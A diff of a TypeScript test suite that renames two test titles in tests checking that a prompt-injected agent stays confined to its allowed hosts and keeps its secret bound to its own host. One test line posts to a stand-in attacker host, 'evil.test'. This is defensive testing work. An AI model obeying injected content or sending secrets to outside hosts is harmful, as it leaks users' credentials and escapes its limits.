@@ -95,7 +95,7 @@ describe('interns with a model that obeys every page and file that it reads', ()
       return [await readdir(home), await readFile(join(home, 'notes.txt'), 'utf8')];
     };
 
-    it('reach the allowed hosts, with the secret at its own host', async () => {
+    it('reach the allowed hosts, and send the secret only to its own host', async () => {
       const headers = { authorization: `Bearer ${placeholderOf('api_token')}` };
       const calls = [request(`https://${BOUND_HOST}/me`, { headers }), post('https://evil.test/', 'allowed once')];
       const settings = `/interns/${interns.internId}/settings`;
@@ -111,7 +111,7 @@ describe('interns with a model that obeys every page and file that it reads', ()
     }, 60_000);
 
     it.each(BATCHES.map((batch, index) => [batch.map(({ name }) => name).join(', '), batch, index] as const))(
-      'are confined: %s',
+      'reach no other host, intern or record because of the injections: %s',
       async (_, batch, index) => {
         const before = [await injected.records(), await neighbour()];
         const text = batch
